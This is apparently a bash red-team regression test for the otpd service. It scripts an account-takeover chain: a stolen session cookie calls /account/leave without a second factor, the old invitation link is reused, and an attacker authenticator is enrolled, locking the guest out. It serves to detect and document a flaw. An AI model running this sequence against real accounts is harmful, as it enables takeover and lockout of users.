#!/bin/bash
# Red team 6, finding 01: a stolen full-session cookie plus the guest's mailbox replaces the guest's
# authenticator without the current TOTP or a recovery code.
# /account/authenticator asks for the current second factor and a fresh emailed code (L3). But
# /account/leave asks only for the full session (and its CSRF token, which the page gives that session):
# lifecycle_forget() ends the sessions and deletes the guest record (TOTP secret, recovery codes) and
# closes nothing. The invitation link in the guest's mailbox still works: the attacker accepts it again,
# types the emailed code, is a new unenrolled guest, enrols an authenticator of their own and passes /auth.
# The guest's own TOTP and recovery codes are gone: the guest is locked out until they redo the same
# (and then the attacker can repeat it while the mailbox access lasts). Works with the defaults.
cd "$(dirname "$0")/.." || exit 2
. tests/otpd/lib.sh
# DEFAULTS=1: otpd's default limits; the attacker then waits out mail_interval (60 s) after the guest's own
# code mail, as any real attacker is past it (the guest's code mail is long expired by then).
if [ "${DEFAULTS:-0}" = 1 ]; then setup; else setup "mail_interval = 0s" "mails_per_hour = 100"; fi
start_sink
start_otpd
G=guest@example.net
enrolled_guest $G            # the guest: TOK, SECRET; the full session in the jar
G_SECRET=$SECRET
[ "$(auth "$RESOURCE")" = 200 ] || fail "guest /auth"
cp "$T/jar" "$T/stolen.jar"  # the attacker steals this cookie
: >"$T/jar"
cp "$T/stolen.jar" "$T/jar"
[ "$(page "$BASE/account")" = 200 ] || fail "/account with the stolen cookie"
csrf=$(csrf_of "$T/pg")
s=$(page --data "csrf=$csrf&confirm=yes" "$BASE/account/leave")
echo "leave with the stolen cookie: $s"
# The attacker reads the mailbox: the old invitation link, a new emailed code, a new authenticator.
[ "${DEFAULTS:-0}" = 1 ] && sleep 61
: >"$T/jar"
s=$(page "$BASE/accept/$TOK")
if [ "$s" != 200 ]; then ok "the old link after leaving: $s"; exit 0; fi
_csrf=$(csrf_of "$T/pg"); _n=$(mail_count)
[ "$(page --data-urlencode "email=$G" --data "csrf=$_csrf" "$BASE/accept/$TOK/email")" = 200 ] || { ok "email step refused"; exit 0; }
wait_mails $((_n + 1)) 10 || { ok "no code mail after leaving"; exit 0; }
s=$(page --data-urlencode "email=$G" --data "code=$(latest_code)&csrf=$_csrf" "$BASE/accept/$TOK/code")
[ "$s" = 200 ] || { ok "code step after leaving: $s"; exit 0; }
s=$(page "$BASE/mfa/setup")
if [ "$s" = 303 ] && tr -d '\r' <"$T/ph" | grep -q '^Location: /privacy'; then accept_privacy; s=$(page "$BASE/mfa/setup"); fi
[ "$s" = 200 ] || { ok "no setup page for the re-accepted guest: $s"; exit 0; }
A_SECRET=$(sed -n 's/.*id="secret">\([^<]*\)<.*/\1/p' "$T/pg" | tr -d ' ')
r=$(mfa_post /mfa/setup "$(totp "$A_SECRET")")
a=$(auth "$RESOURCE")
# The guest: their own authenticator no longer gets them in.
: >"$T/jar"
sleep 31
g=$(html_login $G); v=$(verify_page); gv=$(mfa_post /mfa/verify "$(totp "$G_SECRET")")
echo "attacker enrol: $r, attacker /auth: $a; guest's own TOTP at /login: $g/$v/$gv"
if [ "$r" = 200 ] && [ "$a" = 200 ]; then
	echo "ATTACK WORKS: stolen cookie + mailbox replaced the authenticator via /account/leave (no current factor)" >&2
	exit 1
fi
ok "refused"
exit 0
